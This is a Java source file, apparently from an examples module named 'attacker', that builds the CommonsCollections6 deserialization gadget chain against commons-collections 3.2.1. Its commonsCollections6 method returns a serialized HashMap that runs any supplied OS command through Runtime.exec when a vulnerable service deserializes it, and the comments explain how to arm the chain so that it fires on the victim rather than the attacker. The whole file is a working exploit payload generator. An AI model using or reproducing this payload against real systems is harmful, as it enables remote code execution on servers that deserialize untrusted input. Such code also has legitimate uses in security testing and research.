package dev.inlay.examples.attacker;

import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/**
 * Serialized gadget chains against commons-collections 3.2.1, built here rather than taken from a tool.
 *
 * <p>The chain is the public CommonsCollections6 technique: deserializing a {@code HashMap} hashes its keys; the key is
 * a {@code TiedMapEntry} whose {@code hashCode} asks a {@code LazyMap} for a missing value; the {@code LazyMap} asks its
 * {@code ChainedTransformer}, whose {@code InvokerTransformer}s call {@code Runtime.getRuntime().exec(command)}. It
 * needs no reflection into {@code java.base}, so it works on every JDK from 8 to 25 as long as commons-collections
 * 3.2.1 (before 3.2.2 disabled {@code InvokerTransformer} deserialization) is on the victim's class path.
 */
public final class Gadgets {
    private Gadgets() {}

    /** A serialized object that runs {@code command} (executable first) when any {@code ObjectInputStream} reads it. */
    public static byte[] commonsCollections6(List<String> command) throws IOException, ReflectiveOperationException {
        Transformer[] armed = {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {
                "getRuntime", new Class<?>[0]
            }),
            new InvokerTransformer(
                    "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new InvokerTransformer(
                    "exec", new Class<?>[] {String[].class}, new Object[] {command.toArray(String[]::new)}),
            new ConstantTransformer(1),
        };
        // Armed only after the map is built: putting the key hashes it here, and the attacker must not pwn himself.
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        Map<Object, Object> backing = new HashMap<>();
        @SuppressWarnings("unchecked")
        Map<Object, Object> lazy = LazyMap.decorate(backing, chain);
        TiedMapEntry key = new TiedMapEntry(lazy, "inlay");
        HashMap<Object, Object> outer = new HashMap<>();
        outer.put(key, "inlay");
        // The put above made LazyMap cache the key; without removing it the victim would never call the chain.
        backing.clear();
        Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
        transformers.setAccessible(true);
        transformers.set(chain, armed);
        return serialize(outer);
    }

    public static byte[] serialize(Serializable object) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(object);
        }
        return bytes.toByteArray();
    }
}
